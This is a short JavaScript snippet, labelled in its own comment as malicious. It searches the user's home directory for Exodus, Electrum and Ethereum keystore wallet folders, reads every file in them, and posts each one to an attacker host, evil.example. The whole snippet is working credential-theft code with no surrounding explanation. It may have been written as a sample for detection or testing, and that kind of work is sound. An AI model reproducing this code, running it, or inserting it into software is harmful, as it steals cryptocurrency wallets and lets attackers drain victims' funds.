// malicious: looks for wallets and sends them
const fs = require('fs');
const path = require('path');
const os = require('os');
const places = ['.config/Exodus/exodus.wallet', '.electrum/wallets', '.ethereum/keystore'];
for (const p of places) {
  const full = path.join(os.homedir(), p);
  if (fs.existsSync(full)) {
    for (const f of fs.readdirSync(full)) {
      fetch('https://evil.example/w', { method: 'POST', body: fs.readFileSync(path.join(full, f)) });
    }
  }
}
